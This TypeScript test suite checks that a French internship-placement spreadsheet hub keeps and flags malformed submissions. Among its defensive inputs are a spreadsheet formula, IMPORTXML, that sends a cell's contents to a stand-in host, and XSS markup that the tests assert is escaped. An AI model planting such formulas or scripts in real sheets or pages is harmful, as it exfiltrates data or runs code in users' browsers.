/** What people send that cannot be right: each gets a sentence in French, and nothing of it is lost. */
import { Hub, linkIn, mailOf, MINUTE, plain, RAW, removeHubs, requestAnswers, offerAnswers, SAY, TEACHER } from '../support/hub';

let hub: Hub;
beforeEach(() => {
  hub = Hub.open();
});
afterEach(() => hub.close());
afterAll(removeHubs);

const toCheck = (reference: string): string => plain(hub.row(reference)['À vérifier']!);

/** Cells of every tab that hold a formula. */
const formulas = (): string[] =>
  hub.runtime
    .spreadsheet()
    .sheets.flatMap(({ name }) =>
      hub.runtime
        .sheetByName(name)
        .cells.flatMap((row) => row.flatMap((cell) => (cell?.formula === undefined ? [] : [`${name}: ${cell.formula}`]))),
    );

/** Types straight into the raw answers, as someone who mends them by hand would. */
const typeRaw = (tab: string, question: string, typed: string): void => {
  const { id, cells } = hub.runtime.sheetByName(tab);
  const column = hub.column(tab, question);
  hub.runtime.edit(id, `${String.fromCharCode(64 + column)}${cells.length}`, [[typed]]);
};

describe('a request', () => {
  /** A request whose raw answer says something that the form itself would not let through. */
  const received = (question: string, typed: string): string => {
    hub.runtime.setFault({ formTriggerTimes: 0 });
    hub.submitted('request', requestAnswers());
    typeRaw(RAW.request, question, typed);
    hub.menu('readWaitingAnswers');
    return hub.rows('Demandes').at(-1)!['Référence']!;
  };

  test('the form refuses a school that is not in its list', () => {
    const result = hub.submit('request', requestAnswers({ 'Votre établissement': 'Lycée Inconnu' }));
    expect(result.accepted).toBe(false);
    expect(Object.values(result.errors)).toHaveLength(1);
    expect(hub.rows(RAW.request)).toEqual([]);
  });

  test('an unknown school that comes all the same is kept as written, and asked again', () => {
    const request = received('Votre établissement', 'Lycée Inconnu');
    expect(hub.row(request)).toMatchObject({ Statut: 'À compléter', Établissement: 'Lycée Inconnu' });
    expect(toCheck(request)).toContain('L’établissement « Lycée Inconnu » n’est pas dans la liste des établissements.');
    const mail = hub.mailsTo(TEACHER).at(-1)!;
    expect(plain(mail.text)).toContain('je ne trouve pas « Lycée Inconnu »');
    expect(
      hub.problem('sendPropositions', { requestReference: request, choices: [{ companyReference: 'ENT-2026-0001' }] }).message,
    ).toBe(`${request} est « À compléter » : cette action n’est plus possible.`);
  });

  test('the form refuses a date that does not exist', () => {
    expect(hub.submit('request', requestAnswers({ 'Premier jour': '2027-02-30' })).accepted).toBe(false);
  });

  test.each([
    ['3027-02-01', 'n’est pas une date possible'],
    ['1927-02-01', 'n’est pas une date possible'],
    ['le lendemain', 'n’est pas une date possible'],
  ])('an impossible first day %s is quoted, and the request is to be completed', (typed, sentence) => {
    const request = received('Premier jour', typed);
    expect(hub.status(request)).toBe('À compléter');
    expect(toCheck(request)).toContain(sentence);
    expect(hub.row(request)['Début']).toBe('');
    expect(hub.row(request)['Élève (initiales)']).toBe('L.M.');
  });

  test('an end before its start is said to the animator and to the teacher', () => {
    const request = hub.request({ 'Premier jour': '2027-02-26', 'Dernier jour': '2027-02-01' });
    expect(hub.status(request)).toBe('À compléter');
    expect(toCheck(request)).toContain('La date de fin (1er février 2027) précède la date de début (26 février 2027).');
    expect(hub.mailsTo(TEACHER)[0]!.subject).toContain(request);
    expect(plain(hub.mailsTo(TEACHER)[0]!.text)).toContain('la fin (1er février 2027) précède le début (26 février 2027)');
    hub.type('Demandes', request, 'Début', '01/02/2027');
    hub.type('Demandes', request, 'Fin', '26/02/2027');
    // Nothing is missing any more: no further gesture is asked.
    expect(hub.status(request)).toBe('Nouvelle');
  });

  test('a postal code that is not the commune’s is said with the right ones', () => {
    const request = hub.request({ 'Code postal de cette commune': '42300' });
    expect(toCheck(request)).toMatch(/Le code postal 42300 est celui de .*Roanne.*, pas de Montbrison\. Montbrison : 42600\./);
    expect(hub.row(request)).toMatchObject({ 'Commune de départ': 'Montbrison', 'Code postal': '42300' });
  });

  test('an empty form is refused by the form', () => {
    const { accepted, errors } = hub.submit('request', {});
    expect(accepted).toBe(false);
    expect(Object.keys(errors).length).toBeGreaterThan(3);
  });

  test('a raw row that is empty but for its date becomes a request to complete; a blank row becomes nothing', () => {
    hub.runtime.setFault({ formTriggerTimes: 0 });
    hub.submitted('request', requestAnswers());
    const { id, cells } = hub.runtime.sheetByName(RAW.request);
    const width = cells[0]!.length;
    hub.runtime.edit(id, 'B2', [new Array<string>(width - 1).fill('')]);
    hub.menu('readWaitingAnswers');
    const request = hub.rows('Demandes')[0]!['Référence']!;
    expect(hub.status(request)).toBe('À compléter');
    expect(toCheck(request)).toContain('L’établissement n’est pas indiqué.');
    expect(toCheck(request)).toContain('Le type de demande n’est pas indiqué.');
    hub.runtime.edit(id, 'A2', [new Array<string>(width + 1).fill('')]);
    hub.menu('readWaitingAnswers');
    expect(hub.rows('Demandes')).toHaveLength(1);
  });

  test('10,000 characters: what fits is in the register, the whole in the raw answer', () => {
    const long = 'Très long texte. '.repeat(625).trim();
    const request = hub.request({ Commentaire: long });
    expect(hub.status(request)).toBe('Nouvelle');
    expect(hub.row(request)['Commentaire']!.length).toBeGreaterThan(4000);
    expect(toCheck(request)).toMatch(
      /Le commentaire compte [\d ]+ caractères : les 5 000 premiers sont ici, le texte entier est dans la réponse au formulaire\./,
    );
    expect(hub.rows(RAW.request)[0]!['Commentaire']).toBe(long);
  });

  test('emoji and letters of other alphabets come through whole', () => {
    const words = 'Motivé 👩🏽‍🍳🥖 – Łukasz, Ştefan, 日本';
    const request = hub.request({ Commentaire: words, 'Votre nom': 'Zoë Ångström 🎓' });
    expect(hub.row(request)).toMatchObject({ Commentaire: words, Demandeur: 'Zoë Ångström 🎓' });
    expect(hub.mailsTo(TEACHER)[0]!.text).toContain('Zoë Ångström 🎓');
  });

  test('the same answer delivered twice is one row and one acknowledgement', () => {
    hub.runtime.setFault({ formTriggerTimes: 2 });
    const request = hub.request();
    expect(hub.rows('Demandes')).toHaveLength(1);
    expect(hub.mailsTo(TEACHER)).toHaveLength(1);
    expect(hub.rows(RAW.request)[0]!['Suivi']).toBe(request);
  });

  test('an answer whose trigger never came is received within the hour', () => {
    hub.runtime.setFault({ formTriggerTimes: 0 });
    hub.submitted('request', requestAnswers());
    expect(hub.rows('Demandes')).toEqual([]);
    hub.advance(61 * MINUTE);
    expect(hub.rows('Demandes')).toHaveLength(1);
    expect(hub.mailsTo(TEACHER)).toHaveLength(1);
  });

  test('a person who sends the form twice has two rows, the second marked as a likely duplicate', () => {
    const first = hub.request();
    const second = hub.request();
    expect(toCheck(second)).toContain(`Peut-être un doublon de ${first}`);
    expect(toCheck(first)).toBe('');
    const [one, other] = hub.mailsTo(TEACHER).map(({ text }) => plain(text)) as [string, string];
    expect(one).not.toContain('doublon');
    expect(other).toContain(
      `Elle ressemble à une demande que j’ai déjà, ${first}. Si c’est la même, répondez simplement « doublon »`,
    );
  });
});

describe('an offer', () => {
  test('a SIRET with a wrong key is kept and said; the offer is open all the same', () => {
    const offer = hub.offer('Alpha', { SIRET: '123 456 789 00012' });
    expect(hub.status(offer)).toBe('Disponible');
    expect(toCheck(offer)).toContain(
      'Le SIRET « 123 456 789 00012 » comporte une erreur de saisie : sa clé de contrôle n’est pas la bonne.',
    );
    expect(hub.rows('Entreprises')[0]!['SIRET']!.replace(/\s/g, '')).toBe('12345678900012');
  });

  test('an end before its start makes the offer one to check', () => {
    const offer = hub.offer('Alpha', {
      'Quand pouvez-vous accueillir ?': 'Entre deux dates',
      'Premier jour d’accueil': '2027-05-31',
      'Dernier jour d’accueil': '2027-05-03',
    });
    expect(hub.status(offer)).toBe('À vérifier');
    expect(toCheck(offer)).toContain('La date de fin (3 mai 2027) précède la date de début (31 mai 2027).');
  });

  test('an empty form is refused by the form', () => {
    expect(hub.submit('offer', {}).accepted).toBe(false);
  });

  test('text that would be a formula stays text everywhere, and leaves no formula in the register', () => {
    const formula = '=IMPORTXML("http://vol.example/?"&A1;"//a")';
    const offer = hub.offer('Alpha', {
      'Nom de l’organisme': formula,
      'Votre nom': '+33(0)1',
      Conditions: `-1+2\n${formula}`,
      'Horaires habituels': '@SUM(A1)',
      'Votre fonction': '=1+1',
    });
    expect(formulas()).toEqual([]);
    expect(hub.row(offer)).toMatchObject({ 'Organisme d’accueil': formula, Horaires: '@SUM(A1)' });
    expect(hub.row('ENT-2026-0001')['Raison sociale']).toBe(formula);
    const request = hub.request({ Commentaire: formula, 'Votre nom': '=CMD()', 'Lesquelles ?': '=2+2' });
    const host = hub.hosts(request)[0]!;
    expect(host.companyName).toBe(formula);
    hub.ask('sendPropositions', {
      requestReference: request,
      choices: [{ companyReference: host.companyReference, offerReference: host.offerReference }],
    });
    hub.advance(4 * MINUTE);
    hub.answer('Alpha', request, {
      [SAY.question]: SAY.yes,
      'Tuteur ou tutrice': formula,
      'Un mot pour le pôle de stages': formula,
    });
    hub.advance(4 * MINUTE);
    expect(hub.row(request)['Hôte retenu']).toBe(formula);
    expect(formulas()).toEqual([]);
    // Read back from the sheet and written again, it is still the same text.
    expect(hub.rows('Propositions')[0]).toMatchObject({ Tuteur: formula, 'Message reçu': formula });
  });

  test('markup is shown as it was typed, in the text and in the HTML of the messages', () => {
    const name = '<script>alert(1)</script><img src=x onerror=alert(2)>';
    hub.offer('Alpha', { 'Nom de l’organisme': name, 'Votre nom': '"><b>Gras</b>' });
    const mail = hub.mailsTo(mailOf('Alpha'))[0]!;
    expect(mail.text).toContain(name);
    expect(mail.html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(mail.html).not.toMatch(/<script|<img|<b>/);
    const request = hub.request();
    const [choice] = hub.hosts(request).map(({ companyReference, offerReference }) => ({ companyReference, offerReference }));
    const preview = hub.ask('previewPropositions', request, [choice!]).messages[0]!;
    expect(preview.html).toContain('&lt;script&gt;');
    expect(preview.html).not.toMatch(/<script|<img/);
  });

  test('a company that sends a second offer is recognised, and has one row', () => {
    hub.offer('Alpha', { SIRET: '73282932000074' });
    hub.offer('Alpha', { SIRET: '732 829 320 00074', 'Nom de l’organisme': 'RESTAURANT ALPHA SARL' });
    expect(hub.rows('Offres')).toHaveLength(2);
    expect(hub.rows('Entreprises')).toHaveLength(1);
    expect(hub.rows('Contacts')).toHaveLength(1);
  });
});

describe('an answer', () => {
  let request: string;
  let link: string;
  beforeEach(() => {
    hub.offer('Alpha');
    hub.offer('Beta');
    request = hub.request();
    hub.proposeAndSend(request, 'Alpha', 'Beta');
    link = linkIn(hub.mailsTo(mailOf('Alpha')).at(-1)!);
  });
  const follow = (): string => hub.rows(RAW.answer).at(-1)!['Suivi']!;

  test('a code that does not exist changes nothing, is marked, and is in the journal', () => {
    const before = hub.rows('Propositions');
    hub.answerLink(link.replace(/=[0-9a-f]{32}$/, '=00000000000000000000000000000000'), { [SAY.question]: SAY.yes });
    expect(hub.rows('Propositions')).toEqual(before);
    expect(plain(follow())).toBe('Code inconnu : à traiter par l’animateur');
    expect(hub.rows('Journal').at(-1)!['Motif']).toContain('ne correspond à aucune proposition');
    expect(hub.rows(RAW.answer)).toHaveLength(1);
  });

  test('a code that was used already takes no second seat and tells nobody again', () => {
    hub.yes('Alpha', request);
    hub.advance(4 * MINUTE);
    const mails = hub.runtime.mailbox().length;
    hub.yes('Alpha', request);
    hub.advance(4 * MINUTE);
    expect(plain(follow())).toBe('PRO-2026-0001 : réponse déjà reçue');
    expect(hub.runtime.mailbox()).toHaveLength(mails);
    expect(hub.rows('Offres').map((row) => row['Places restantes'])).toEqual(['0', '1']);
  });

  test('the code of another proposition answers for that one only', () => {
    const other = linkIn(hub.mailsTo(mailOf('Beta')).at(-1)!);
    hub.answerLink(other, { [SAY.question]: SAY.no, Motif: 'Autre' });
    expect(hub.status('PRO-2026-0001')).toBe('Envoyée');
    expect(hub.status('PRO-2026-0002')).toBe('Refusée');
  });

  test('the code of a cancelled proposition is too late, and its host is told', () => {
    hub.ask('cancelProposition', 'PRO-2026-0001', 'doublon');
    hub.advance(4 * MINUTE);
    hub.answerLink(link, { [SAY.question]: SAY.yes });
    expect(hub.status('PRO-2026-0001')).toBe('Annulée');
    expect(plain(follow())).toBe('PRO-2026-0001 : place déjà attribuée ou demande close');
    hub.advance(4 * MINUTE);
    expect(hub.mailsTo(mailOf('Alpha'))).toHaveLength(4);
    expect(hub.status(request)).toBe('Proposition en cours');
  });

  test('the same yes delivered twice places the pupil once', () => {
    hub.runtime.setFault({ formTriggerTimes: 2 });
    hub.yes('Alpha', request);
    hub.advance(4 * MINUTE);
    expect(hub.rows('Journal').filter((line) => line['Action'] === 'Élève placé')).toHaveLength(1);
    expect(hub.mailsTo(TEACHER)).toHaveLength(2);
    expect(hub.mailsTo(mailOf('Beta'))).toHaveLength(3);
  });

  test('an answer whose trigger never came is acted upon within the hour', () => {
    hub.runtime.setFault({ formTriggerTimes: 0 });
    hub.yes('Alpha', request);
    expect(hub.status(request)).toBe('Proposition en cours');
    hub.advance(66 * MINUTE);
    expect(hub.status(request)).toBe('Placée');
    expect(hub.mailsTo(TEACHER)).toHaveLength(2);
  });

  test('an answer without a code is refused by the form', () => {
    expect(hub.submit('answer', { [SAY.question]: SAY.yes }).accepted).toBe(false);
  });
});

test('an offer without the name of its host is kept with all the rest, and is one to check', () => {
  hub.runtime.setFault({ formTriggerTimes: 0 });
  hub.submitted('offer', offerAnswers('Alpha'));
  typeRaw(RAW.offer, 'Nom de l’organisme', '');
  hub.menu('readWaitingAnswers');
  expect(hub.rows('Offres')[0]).toMatchObject({ Statut: 'À vérifier', Commune: 'Montbrison' });
  expect(toCheck('OFF-2026-0001')).toContain('Le nom de l’organisme n’est pas indiqué.');
});

test('a postal code, a telephone and a SIRET that begin with zeros keep them, though the raw answers hold numbers', () => {
  const hub = Hub.open();
  hub.submit(
    'offer',
    offerAnswers('Bressan', {
      'Code postal': '01000',
      Commune: 'Bourg-en-Bresse',
      'Votre téléphone': '0465710034',
      SIRET: '00012345500016',
    }),
  );
  expect(hub.rows('Entreprises')[0]).toMatchObject({
    'Code postal': '01000',
    Commune: 'Bourg-en-Bresse',
    Téléphone: '0465710034',
    SIRET: '00012345500016',
  });
  hub.close();
});
